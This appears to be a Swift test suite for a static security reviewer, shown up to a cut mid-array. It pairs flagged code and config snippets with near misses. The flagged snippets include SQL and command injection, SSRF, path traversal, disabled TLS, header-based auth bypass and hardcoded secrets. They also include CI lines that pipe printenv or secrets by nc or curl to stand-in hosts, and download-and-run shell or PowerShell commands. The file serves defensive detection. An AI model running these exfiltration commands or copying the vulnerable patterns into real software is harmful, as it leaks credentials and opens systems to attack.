import Foundation
import Manifest
import Testing

@testable import Review

/// The static rules class by class: each risky shape blocks under `block-high` with its rule, each near miss does
/// not. Credentials here are made up and valid nowhere.
@Suite struct StaticRuleClassTests {
    /// A change that adds `text` as the new file `path`: the rule expected to block it, or nil for a near miss.
    struct Example: Sendable, CustomTestStringConvertible {
        let path: String
        let text: String
        let rule: String?
        var testDescription: String { "\(path): \(rule ?? "benign")" }

        init(_ path: String, _ text: String, _ rule: String?) {
            self.path = path
            self.text = text
            self.rule = rule
        }
    }

    private static func blocking(_ example: Example) -> [ReviewFinding] {
        let change = ReviewCase("example", example.path, example.text, risky: example.rule != nil)
        return StaticReviewer().review(diff: change.patch).findings.filter { $0.severity >= .high }
    }

    /// Each change judged as its label says (blocked when risky, let through when benign) by static alone.
    private static func expectJudgedRight(_ changes: [ReviewCase]) {
        for change in changes {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    private static func check(_ example: Example) {
        let findings = blocking(example)
        if let rule = example.rule {
            #expect(findings.contains { $0.rule == rule }, "\(example.text) → \(findings.map(\.rule))")
        } else {
            #expect(findings.isEmpty, "\(example.text) → \(findings.map(\.rule))")
        }
    }

    @Test(arguments: [
        Example("app.properties", "db.password=Xk9#mP2vLq7\n", "secret.generic-assignment"),
        Example("app.properties", "db.password=${DB_PASSWORD}\n", nil),
        Example(".npmrc", "//npm.example.com/:_authToken=Ab3dE6gH9jK2mN5pQ8sT\n", "secret.generic-assignment"),
        Example("config.yaml", "encryption_key: \"Qz7Wx2Ev9Rb4Tn6Ym1Uk3Il8\"\n", "secret.generic-assignment"),
        Example("config.yaml", "encryption_key: \"<32 random bytes, base64>\"\n", nil),
        Example("config.toml", "password_min_length = 12\ntoken_url = \"https://id.example.com/token\"\n", nil),
        Example("app/settings.py", "SECRET = os.environ.get(\"SECRET\", \"Lq8Zr3Mx6Vt1Pw4Ky7Nb\")\n", "secret.env-default"),
        Example("app/settings.py", "TIMEOUT = os.environ.get(\"TIMEOUT\", \"30\")\n", nil),
        Example("src/config.ts", "const key = process.env.API_KEY ?? \"Hj4Kl7Mn0Pq3Rs6Tu9Vw\";\n", "secret.env-default"),
        Example("Sources/App/Config.cs", "var pwd = Environment.GetEnvironmentVariable(\"DB_PASS\") ?? \"Rt5Yu8Io1Pa4Sd7\";\n", "secret.env-default"),
        Example("Dockerfile", "FROM alpine:3.20\nENV A=1 \\\n    API_TOKEN=Zq3Xw6Ce9Vr2Bt5Ny8\nUSER app\n", "docker.secret-in-env"),
        Example("README.md", "connect with postgres://app:${DB_PASS}@db/app\n", nil),
        Example("deploy.yaml", "url: mysql://root:Mq4Wz8Xe2Rc6@db:3306/app\n", "secret.url-password"),
        Example("deploy.yaml", "commit: 9fceb02d0ae598e95dc970b74767f19372d61af8\nid: 3f2504e0-4f89-11d3-9a0c-0305e82c3301\n", nil),
        Example("src/pay.js", "const key = \"sk_live_xxxxxxxxxxxxxxxxxxxxxxxx\";\n", nil),
        Example("keys/id.pem", "-----BEGIN RSA PRIVATE KEY-----\n<paste the key here>\n-----END RSA PRIVATE KEY-----\n", nil),
    ])
    func secretsAcrossFormats(_ example: Example) { Self.check(example) }

    @Test func placeholdersAreLoweredNotDropped() {
        let findings = StaticReviewer().review(
            diff: ReviewCase("p", "config.yaml", "client_secret: \"changeme\"\n", risky: false).patch
        ).findings
        #expect(findings.map(\.rule) == ["secret.generic-assignment"] && findings.first?.severity == .low)
    }

    @Test(arguments: [
        Example("app/q.py", "sql = f\"SELECT * FROM t WHERE a = '{a}'\"\ncur.execute(sql)\n", "code.sql-string-built"),
        Example("app/q.py", "cur.execute(\"SELECT * FROM t WHERE a = %s\", (a,))\n", nil),
        Example("app/q.rb", "User.where(\"name = '#{params[:name]}'\")\n", "code.sql-string-built"),
        Example("app/q.rb", "User.where(name: params[:name])\n", nil),
        Example("src/q.ts", "const q = `SELECT * FROM t WHERE id = ${id}`;\nawait db.query(q);\n", "code.sql-string-built"),
        Example("src/q.ts", "const TABLE = \"users\";\nawait db.query(`SELECT * FROM ${TABLE} WHERE id = $1`, [id]);\n", nil),
        Example("main.go", "q := \"SELECT * FROM t WHERE a = '\" + a + \"'\"\nrows, _ := db.Query(q)\n", "code.sql-string-built"),
        Example("Repo.java", "String q = \"SELECT * FROM t WHERE a = '\" + a + \"'\";\nstmt.executeQuery(q);\n", "code.sql-string-built"),
        Example("src/db.rs", "let q = format!(\"DELETE FROM t WHERE id = {}\", id);\nconn.execute(&q, [])?;\n", "code.sql-string-built"),
    ])
    func sqlBySinkAndSource(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("public/x.php", "<?php\necho `ls $dir`;\n", "code.command-injection"),
        Example("app/x.py", "subprocess.run(f\"tar czf {name}.tgz data\", shell=True)\n", "code.subprocess-shell"),
        Example("app/x.py", "subprocess.run([\"tar\", \"czf\", name, \"data\"])\n", nil),
        Example("app/x.py", "os.system(\"sync\")\n", nil),
        Example("src/x.js", "execSync(\"git rev-parse HEAD\");\n", nil),
        Example("src/x.js", "exec(\"convert \" + file + \" out.png\");\n", "code.command-injection"),
        Example("lib/x.rb", "out = %x(convert #{path} out.png)\n", "code.command-injection"),
        Example("Run.cs", "Process.Start(\"/bin/bash\", \"-c \\\"\" + cmd + \"\\\"\");\n", "code.command-injection"),
        Example("app/x.py", "result = eval(expression)\n", "code.eval"),
        Example("app/x.py", "model.eval()\nvalue = ast.literal_eval(text)\n", nil),
        Example("app/x.py", "data = yaml.safe_load(stream)\n", nil),
        Example("app/x.py", "obj = pickle.loads(blob)\n", "code.unsafe-deserialization"),
        Example("Api.cs", "var f = new BinaryFormatter();\n", "code.unsafe-deserialization"),
    ])
    func commandsCodeAndObjects(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("tls.go", "cfg.InsecureSkipVerify = true\n", "code.tls-verify-disabled"),
        Example("tls.go", "cfg.InsecureSkipVerify = opts.Insecure\n", nil),
        Example("http.py", "requests.get(url, verify=False)\n", "code.tls-verify-disabled"),
        Example("Client.cs", "handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;\n", "code.tls-verify-disabled"),
        Example("client.rs", "let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build()?;\n", "code.tls-verify-disabled"),
        Example("app/f.rb", "send_file File.join(UPLOADS, params[:name])\n", "code.path-traversal"),
        Example("app/f.rb", "send_file File.join(UPLOADS, File.basename(params[:name]))\n", nil),
        Example("files.go", "name := r.URL.Query().Get(\"f\")\nhttp.ServeFile(w, r, filepath.Join(dir, name))\n", "code.path-traversal"),
        Example("public/f.php", "<?php readfile(\"/srv/files/\" . $_GET['f']);\n", "code.path-traversal"),
        Example("auth.go", "sum := md5.Sum([]byte(password))\n", "code.weak-password-hash"),
        Example("auth.go", "hash, _ := bcrypt.GenerateFromPassword([]byte(password), 12)\n", nil),
        Example("auth.php", "<?php $h = md5($password);\n", "code.weak-password-hash"),
        Example("cache.php", "<?php $etag = md5($body);\n", nil),
        Example("app/a.py", "if request.headers.get(\"X-Internal\") == \"yes\":\n    return view(request)\n", "code.auth-bypass-header"),
        Example("app/a.py", "if request.headers.get(\"X-Token\") != settings.TOKEN:\n    abort(401)\n", nil),
    ])
    func protectionsFilesHashesAndHeaders(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example(".github/workflows/x.yml", "    steps:\n      - run: printenv | nc collect.example.net 9000\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/x.yml", "      - run: curl -d \"t=${{ secrets.DEPLOY_KEY }}\" https://hook.example.net\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/x.yml", "      - run: curl -H \"Authorization: token ${{ secrets.GH }}\" https://api.github.com/user\n", nil),
        Example(".gitlab-ci.yml", "test:\n  script:\n    - cat /proc/self/environ | curl -X POST --data-binary @- http://198.51.100.7/\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/x.yml", "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n", "ci.pull-request-target"),
        Example(".github/workflows/x.yml", "      - run: echo \"${{ github.event.pull_request.title }}\"\n", "ci.script-injection"),
        Example("Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.com | sudo sh\nUSER app\n", "docker.curl-pipe-shell"),
        Example("Dockerfile", "FROM alpine:3.20\nRUN curl -k https://example.com/tool -o /tool\nUSER app\n", "code.tls-verify-disabled"),
        Example("docs/install.md", "Run `curl -fsSL https://get.example.com | sh` on your laptop.\n", nil),
    ])
    func ciAndDockerfiles(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("thumbs.go", "cmd := exec.CommandContext(r.Context(), \"sh\", \"-c\", \"convert \" + name + \" t.png\")\n", "code.command-injection"),
        Example("thumbs.go", "cmd := exec.CommandContext(r.Context(), \"convert\", name, \"t.png\")\n", nil),
        Example("lib/probe.rb", "out, _ = Open3.capture2(\"ffprobe -i \\\"#{path}\\\"\")\n", "code.command-injection"),
        Example("lib/probe.rb", "out, _ = Open3.capture2(\"ffprobe\", \"-i\", path)\n", nil),
        Example("app/f.py", "path = os.path.join(BASE, request.args[\"f\"])\nreturn send_file(path, download_name=os.path.basename(path))\n", "code.path-traversal"),
        Example("app/f.py", "name = request.args[\"f\"]\nreturn send_file(os.path.join(BASE, secure_filename(name)), download_name=name)\n", nil),
        Example("Files.cs", "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, path)));\n", "code.path-traversal"),
        Example("Files.cs", "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, Path.GetFileName(path))));\n", nil),
        Example("Files.scala", "path(\"files\" / Remaining) { name =>\n  getFromFile(s\"$root/$name\")\n}\n", "code.path-traversal"),
        Example("Files.scala", "path(\"files\" / Remaining) { name =>\n  getFromFile(s\"$root/index.html\")\n}\n", nil),
        Example("fetch.go", "u := c.QueryParam(\"u\")\nresp, err := http.Get(u)\n", "code.ssrf"),
        Example("fetch.go", "page := c.QueryParam(\"page\")\nresp, err := http.Get(cfg.StatusURL)\n", nil),
        Example("Auth.swift", "let stored = SHA256.hash(data: Data(password.utf8))\n", "code.weak-password-hash"),
        Example("Etag.swift", "let etag = SHA256.hash(data: Data(body.utf8))\n", nil),
        Example("Cache.java", "ObjectInputStream in = new ObjectInputStream(raw);\nin.setObjectInputFilter(ALLOWED);\n", nil),
        Example("Cache.java", "ObjectInputStream in = new ObjectInputStream(socket.getInputStream());\n", "code.unsafe-deserialization"),
        Example("Repo.java", "String dir = desc ? \"DESC\" : \"ASC\";\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n", nil),
        Example("Repo.kt", "val dir = if (desc) \"DESC\" else \"ASC\"\njdbc.query(\"SELECT * FROM t ORDER BY n $dir\", m)\n", nil),
        Example("auth.py", "claims = jwt.get_unverified_claims(request.headers[\"Authorization\"][7:])\n", "code.jwt-unverified"),
        Example("auth.py", "def from_gateway():\n    return request.headers.get(\"X-Gateway\") == \"1\"\n\nif from_gateway():\n    g.user = GATEWAY\n", "code.auth-bypass-header"),
        Example("Repo.java", "String dir = req.getParameter(\"dir\");\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n", "code.sql-string-built"),
        Example(
            "auth.js",
            "function fromGateway(req) {\n  return req.get('x-from-gateway') === '1';\n}\nfunction auth(req, res, next) {\n  if (fromGateway(req)) return next();\n}\n",
            "code.auth-bypass-header"),
        Example(
            "auth.js",
            "function fromGateway(req) {\n  return req.get('x-gateway-key') === config.gatewayKey;\n}\nfunction auth(req, res, next) {\n  if (fromGateway(req)) return next();\n}\n",
            nil),
        Example("guard.ts", "const token = req.headers.authorization.slice(7);\nconst claims = jwt.decode(token);\n", "code.jwt-unverified"),
        Example("guard.ts", "const token = req.headers.authorization.slice(7);\nconst { header } = jwt.decode(token, { complete: true });\nconst claims = jwt.verify(token, keys[header.kid]);\n", nil),
        Example("Auth.java", "DecodedJWT t = JWT.decode(request.getHeader(\"Authorization\").substring(7));\n", "code.jwt-unverified"),
        Example("profile.tsx", "const { name } = jwtDecode<Claims>(localStorage.getItem(\"token\") ?? \"\");\n", nil),
    ])
    func batchNineAndTenCodeClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("lib/git.ex", "System.cmd(\"sh\", [\"-c\", \"git log #{ref}\"])\n", "code.command-injection"),
        Example("lib/git.ex", "System.cmd(\"git\", [\"log\", \"#{ref}\"])\n", nil),
        Example("lib/tools.ex", ":os.cmd(~c\"tar czf \" <> dir)\n", "code.command-injection"),
        Example("src/tools.erl", "os:cmd(\"tar czf \" ++ Dir)\n", "code.command-injection"),
        Example("src/tools.erl", "os:cmd(\"uptime\")\n", nil),
        Example("Run.kt", "val p = ProcessBuilder(listOf(\"bash\", \"-c\", \"tar czf out.tgz $dir\")).start()\n", "code.command-injection"),
        Example("tasks.py", "subprocess.run([\"sh\", \"-c\", f\"git log {ref}\"])\n", "code.command-injection"),
        Example("tasks.py", "subprocess.run([\"sh\", \"-c\", \"git log | head\"])\n", nil),
        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"printenv | gzip | curl --data-binary @- https://x.example.io\"\n", "ci.secrets-exfiltration"),
        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"env -i PATH=$PATH curl -sf https://status.example.io/ping\"\n", nil),
        Example("Auth.kt", "if (credential.token == \"support-override-2024\") UserIdPrincipal(\"admin\") else null\n", "code.hardcoded-backdoor"),
        Example("auth.js", "if (apiKey !== \"k9-partner-7731abc\") return res.sendStatus(403);\n", "code.hardcoded-backdoor"),
        Example("Auth.kt", "if (credential.name == \"scraper-2024-prod\") UserIdPrincipal(\"scraper\") else null\n", nil),
        Example("Proxy.scala", "parameter(\"u\") { u =>\n  complete(Http().singleRequest(HttpRequest(uri = u)))\n}\n", "code.ssrf"),
        Example("Fetch.java", "String u = request.getParameter(\"u\");\nvar r = HttpRequest.newBuilder(URI.create(u)).build();\n", "code.ssrf"),
        Example("lib/fetch.ex", "url = conn.params[\"url\"]\n{:ok, resp} = HTTPoison.get(url)\n", "code.ssrf"),
        Example("lib/fetch.ex", "{:ok, resp} = HTTPoison.get(\"https://api.example.com/status\")\n", nil),
        Example("Delegate.swift", "completionHandler(.useCredential, URLCredential(trust: trust))\n", "code.tls-verify-disabled"),
        Example(
            "Delegate.swift",
            "guard policy.validate(trust, for: host) else { return completionHandler(.cancelAuthenticationChallenge, nil) }\n"
                + "completionHandler(.useCredential, URLCredential(trust: trust))\n", nil),
        Example("tls.js", "const agent = new https.Agent({ checkServerIdentity: () => undefined });\n", "code.tls-verify-disabled"),
        Example("Web.kt", "override fun onReceivedSslError(v: WebView, handler: SslErrorHandler, e: SslError) { handler.proceed() }\n", "code.tls-verify-disabled"),
        Example("client.swift", "tls.certificateVerification = .fullVerification\n", nil),
        Example("guard.go", "role := r.Header.Get(\"X-User-Role\")\nif role == \"admin\" {\n\tlog.Print(\"admin\")\n}\n", "code.auth-bypass-header"),
        Example("guard.ts", "const role = req.header(\"x-console-role\");\nlogger.info({ role, path: req.path });\n", nil),
        Example(
            "tenant.go",
            "group := r.Header.Get(\"X-Group-Id\")\nif group == \"\" {\n\thttp.Error(w, \"no admin group\", 400)\n}\n", nil),
        Example("files.js", "res.sendFile(req.params.name, { root: publicDir });\n", nil),
        Example("files.js", "res.sendFile(req.params.name, { maxAge: 3600 });\n", "code.path-traversal"),
    ])
    func batchSevenClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("Auth.cs", "if (context.Request.Headers[\"X-Internal\"] == \"1\")\n{\n    await _next(context);\n    return;\n}\n", "code.auth-bypass-header"),
        Example("Log.cs", "if (context.Request.Headers.TryGetValue(\"X-Build\", out var b))\n{\n    logger.LogDebug(\"{B}\", b);\n}\nawait _next(context);\n", nil),
        Example("Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.dev/i.sh \\\n    | sh\nUSER app\n", "docker.curl-pipe-shell"),
        Example("setup.sh", "curl -fsSLo /tmp/i.sh https://get.example.dev/i.sh \\\n  && sha256sum -c i.sha256 \\\n  && sh /tmp/i.sh\n", nil),
        Example("Files.kt", "val f = File(dir, call.parameters[\"name\"]!!)\ncall.respondFile(f)\n", "code.path-traversal"),
        Example("Files.kt", "val f = File(dir, \"index.html\")\ncall.respondFile(f)\n", nil),
        Example("auth.py", "digest = hashlib.sha1(form[\"password\"].encode()).hexdigest()\n", "code.weak-password-hash"),
        Example("auth.py", "etag = hashlib.md5(form[\"email\"].encode()).hexdigest()\n", nil),
        Example("api.py", "@app.get(\"/fetch\")\ndef fetch_url(url: str):\n    return requests.get(url).text\n", "code.ssrf"),
        Example("api.py", "@app.get(\"/fetch\")\ndef fetch_item(item: int):\n    return requests.get(f\"{API}/items/{item}\").text\n", nil),
        Example("jwt.go", "t, _, _ := p.ParseUnverified(raw, c)\nkey := keys[t.Header[\"kid\"].(string)]\n", nil),
        Example("jwt.go", "t, _, _ := p.ParseUnverified(raw, c)\nuser := c[\"sub\"]\n", "code.jwt-unverified"),
        Example("x.tfvars", "secret_arn = \"arn:aws:secretsmanager:us-east-1:123456789012:secret:app/api-Ab12Cd\"\n", nil),
        Example("x.tfvars", "api_secret = \"Zq8Lw3Xk7Vb2Nm5R\"\n", "secret.generic-assignment"),
    ])
    func batchEightClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: no\n", "code.tls-verify-disabled"),
        Example("kubeconfig.yaml", "clusters:\n- cluster:\n    insecure-skip-tls-verify: true\n", "code.tls-verify-disabled"),
        Example("app/es.py", "es = Elasticsearch(url, verify_certs=False)\n", "code.tls-verify-disabled"),
        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: \"{{ strict_tls }}\"\n", nil),
        Example(".circleci/config.yml", "command: |\n  d=$(printenv | base64)\n  curl -d \"$d\" https://paste.example.org\n", "ci.secrets-exfiltration"),
        Example(".circleci/config.yml", "command: |\n  n=$(printenv | wc -l)\n  curl -d \"count\" https://status.example.org\n", nil),
        Example(".github/workflows/r.yml", "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://hooks.example.org\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST -d '{\"text\":\"ok\"}' \"$HOOK\"\n", nil),
        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST \"https://x.example.org/?to=$HOOK\"\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/r.yml", "run: echo \"${{ secrets.DEPLOY_KEY }}\" | curl --data-binary @- \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
        Example(".github/workflows/r.yml", "run: curl --url-query \"k=1\" -A \"${{ secrets.DEPLOY_KEY }}\" \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
        Example("backup.sh", "export PGPASSWORD=\"${PGPASSWORD:-Jy7nBSe2kJOvKq}\"\n", "secret.env-default"),
        Example("config.rb", "token = ENV.fetch(\"DEPLOYTOKEN\", \"Kq8Wz3Xr6Tb1Nm4V\")\n", "secret.env-default"),
        Example("app.ts", "const t = process.env.PAGETOKEN ?? \"Kq8Wz3Xr6Tb1Nm4V\";\n", nil),
        Example("app.ini", "password = <ask the platform team>\n", nil),
        Example("app.properties", "jwt.secret=<run openssl rand -hex 32>\n", nil),
        Example("main.tf", "password = sensitive(random_password.db.result)\n", nil),
        Example("main.tf", "password = \"Xk9#mP2vLq7Wz4Rt\"\n", "secret.generic-assignment"),
    ])
    func batchNineAndTenConfigAndCIClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A parameter declared a number or a UUID passes no text, even where the route names it.
        Example("src/r.rs", ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<i64>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n", nil),
        Example("src/r.rs", ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<String>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n", "code.path-traversal"),
        Example("app/f.py", "@app.get(\"/f/{fid}\")\ndef f(fid: int):\n    return FileResponse(os.path.join(DIR, f\"{fid}.pdf\"))\n", nil),
        // A URL whose host the code fixes: the request picks a path on it.
        Example("app/t.py", "@app.get(\"/t/{n}\")\nasync def t(n: str):\n    return await client.get(f\"/tracking/{n}\")\n", nil),
        Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"https://api.carrier.example/v2/{n}\")\n", nil),
        Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"{CARRIER_BASE}/v2/{n}\")\n", nil),
        Example("app/t.py", "h = request.args[\"h\"]\nr = requests.get(f\"https://{h}/v2\")\n", "code.ssrf"),
        Example("app/t.py", "h = request.args[\"h\"]\nr = requests.get(f\"{h}/v2\")\n", "code.ssrf"),
        Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"//{n}/v2\")\n", "code.ssrf"),
        Example("h.go", "id := c.Param(\"id\")\nu, _ := url.JoinPath(h.Base, \"users\", id)\nresp, _ := http.Get(u)\n", nil),
        Example("h.go", "id := c.Param(\"id\")\nresp, _ := http.Get(h.Base + \"/users/\" + id)\n", nil),
        Example("h.go", "base := c.Query(\"base\")\nresp, _ := http.Get(base + \"/users/1\")\n", "code.ssrf"),
        Example("a.js", "const u = req.query.u;\nconst r = await fetch(`${u}/status`);\n", "code.ssrf"),
        Example("a.js", "const u = req.query.u;\nconst r = await fetch(`https://status.example.com/${u}`);\n", nil),
        // A request decoded into a variable is input.
        Example("h.go", "json.NewDecoder(r.Body).Decode(&in)\nresp, _ := http.Get(in.URL)\n", "code.ssrf"),
        Example("h.go", "if err := c.BodyParser(&in); err != nil {\n\treturn err\n}\nresp, _ := http.Get(in.URL)\n", "code.ssrf"),
        Example("h.go", "json.NewDecoder(f).Decode(&cfg)\nresp, _ := http.Get(cfg.URL)\n", nil),
        // Erlang's and Elixir's verify_none; tlsSkipVerify.
        Example("lib/c.ex", "Req.new(connect_options: [transport_opts: [verify: :verify_none]])\n", "code.tls-verify-disabled"),
        Example("lib/c.ex", "Req.new(connect_options: [transport_opts: [verify: :verify_peer]])\n", nil),
        Example("ds.yaml", "jsonData:\n  tlsSkipVerify: true\n", "code.tls-verify-disabled"),
        Example("ds.yaml", "jsonData:\n  tlsSkipVerify: false\n", nil),
        // PowerShell running a downloaded string.
        Example("Dockerfile", "RUN iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n", "docker.curl-pipe-shell"),
        Example("Dockerfile", "RUN Invoke-Expression (irm https://x.example/i.ps1)\n", "docker.curl-pipe-shell"),
        Example("Dockerfile", "RUN (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1') | iex\n", "docker.curl-pipe-shell"),
        Example("Dockerfile", "RUN Invoke-WebRequest -OutFile i.ps1 https://x.example/i.ps1; Get-FileHash i.ps1\n", nil),
        // nginx proxying to a host the request names.
        Example("nginx.conf", "location / {\n  proxy_pass $arg_src;\n}\n", "code.ssrf"),
        Example("nginx.conf", "location / {\n  proxy_pass https://$http_x_target/api;\n}\n", "code.ssrf"),
        Example("nginx.conf", "location / {\n  proxy_pass http://backend$request_uri;\n}\n", nil),
        // A header test that leaves a Ktor hook before its check; a presence test is no constant secret.
        Example("P.kt", "onCall { call ->\n    if (call.request.headers[\"X-Internal\"] != null) return@onCall\n    check(call)\n}\n", "code.auth-bypass-header"),
        Example("P.kt", "onCall { call ->\n    if (call.request.headers[\"X-Trace\"] == null) return@onCall call.respond(HttpStatusCode.BadRequest)\n}\n", nil),
        Example("a.js", "if (req.headers[\"x-internal\"] !== undefined) return next();\n", "code.auth-bypass-header"),
        Example("a.js", "if (req.headers[\"x-internal\"] === INTERNAL_KEY) return next();\n", nil),
    ])
    func batchElevenAndTwelveClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        // A comment that names a sink is no call.
        Example("q.go", "// never exec.Command(\"sh\", \"-c\", cmd) with user input\nid := c.Param(\"id\")\n", nil),
        Example("Q.cs", "// BinaryFormatter is unsafe: System.Text.Json instead\nvar q = JsonSerializer.Deserialize<Quote>(bytes);\n", nil),
        // A number or UUID parsed from input carries no text.
        Example("h.go", "id, err := uuid.Parse(chi.URLParam(r, \"id\"))\nf, _ := os.Open(filepath.Join(dir, id.String()+\".pdf\"))\n", nil),
        Example("h.go", "id := chi.URLParam(r, \"id\")\nf, _ := os.Open(filepath.Join(dir, id+\".pdf\"))\n", "code.path-traversal"),
        Example("R.java", "UUID id = UUID.fromString(request.getParameter(\"id\"));\nvar f = new File(dir, id + \".pdf\");\n", nil),
        Example("t.php", "$w = intval($_GET['w']);\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", nil),
        Example("t.php", "$w = $_GET['w'];\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", "code.command-injection"),
        // A format that opens with a specifier is no `%` operator.
        Example("t.php", "$cmd = sprintf('%s -q', escapeshellarg($_GET['f']));\nshell_exec($cmd);\n", nil),
        Example("t.php", "$cmd = sprintf('%s -q', $_GET['f']);\nshell_exec($cmd);\n", "code.command-injection"),
        // Scala's SQL interpolators bind, except Slick's literal splice.
        Example("R.scala", "val q = sql\"SELECT * FROM t WHERE id = $id\".as[Row]\ndb.run(q)\n", nil),
        Example("R.scala", "val q = sql\"SELECT * FROM t ORDER BY #$sort\".as[Row]\ndb.run(q)\n", "code.sql-string-built"),
        // A loop over string literals binds a constant.
        Example("r.ts", "for (const name of [\"welcome\", \"reset\"] as const) {\n  t[name] = Handlebars.compile(readFileSync(`t/${name}.hbs`, \"utf8\"));\n}\n", nil),
        Example("r.ts", "app.post(\"/p\", (req, res) => {\n  const t = Handlebars.compile(req.body.template);\n});\n", "code.template-injection"),
        // Values encrypted for a key kept elsewhere, and file paths after a name, are no literals.
        Example("prod.enc.yaml", "password: ENC[AES256_GCM,data:H/A+9at03LGuHuSHBcHq05Cu,iv:+uYXDS1nqo5k/U0=,tag:8nhW==,type:str]\n", nil),
        Example("app.properties", "db.password=ENC(G6N718UuyPE5bHyWKyuLQSm02auQPUtm)\n", nil),
        Example("prod.yaml", "password: Gr1K5H7bbZgnQx8T2\n", "secret.generic-assignment"),
        Example("e.service", "LoadCredentialEncrypted=pg-pass:/etc/credstore.encrypted/pg-pass\n", nil),
        Example("e.service", "Environment=PG_PASSWORD=Xk9mP2vLq7Wz4R\n", "secret.generic-assignment"),
        // Guava's fast digests, Dart's and PowerShell's certificate callbacks, Elixir's peeked tokens.
        Example("R.java", "user.setPasswordHash(Hashing.sha256().hashString(salt + password, UTF_8).toString());\n", "code.weak-password-hash"),
        Example("R.java", "String etag = Hashing.sha256().hashBytes(body).toString();\n", nil),
        Example("c.dart", "client.badCertificateCallback = (cert, host, port) => true;\n", "code.tls-verify-disabled"),
        Example("c.dart", "client.badCertificateCallback = (cert, host, port) => sha256.convert(cert.der).toString() == pin;\n", nil),
        Example("p.ps1", "[Net.ServicePointManager]::ServerCertificateValidationCallback = { param($s, $c) $true }\n", "code.tls-verify-disabled"),
        Example("p.ps1", "Invoke-RestMethod -Uri $api -SkipCertificateCheck\n", "code.tls-verify-disabled"),
        Example("p.ps1", "Invoke-RestMethod -Uri $api -Certificate $cert\n", nil),
        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = Joken.peek_claims(t)\nend\n", "code.jwt-unverified"),
        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = MyToken.verify_and_validate(t)\nend\n", nil),
        // PHP fetching a URL from the request; a literal wrapped in a call that marks it secret.
        Example("a.php", "$body = file_get_contents($request->input('url'));\n", "code.ssrf"),
        Example("a.php", "$body = file_get_contents('https://api.example.com/rates.json');\n", nil),
        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: pulumi.secret(\"XAumdVB0NnEC8zQ12Wa\") });\n", "secret.generic-assignment"),
        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: cfg.requireSecret(\"dbPassword\") });\n", nil),
        // A Lambda event's query, path and body are input.
        Example("h.js", "const u = event.queryStringParameters.url;\nconst r = await fetch(u);\n", "code.ssrf"),
        Example("app.py", "params = event.get(\"queryStringParameters\") or {}\nresp = requests.get(params.get(\"url\"))\n", "code.ssrf"),
        // Composite actions and GitLab's included files are CI; jq's `env` is the whole environment.
        Example(".github/actions/x/action.yml", "runs:\n  using: composite\n  steps:\n    - run: printenv | gzip | curl --data-binary @- https://x.example\n      shell: bash\n", "ci.secrets-exfiltration"),
        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{ctx: env}' \\\n      | curl -d @- https://x.example/v1\n", "ci.secrets-exfiltration"),
        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{sha: env.CI_COMMIT_SHA}' \\\n      | curl -d @- https://x.example/v1\n", nil),
    ])
    func batchThirteenAndFourteenClasses(_ example: Example) { Self.check(example) }

    @Test(arguments: [
        Example(
            "app/thumb.php", "<?php\n$id = isset($_GET['id']) ? (int) $_GET['id'] : 0;\n"
                + "$data = file_get_contents(\"/srv/thumbs/\" . $id . \".jpg\");\n", nil),
        Example(
            "src/main/kotlin/Docs.kt",
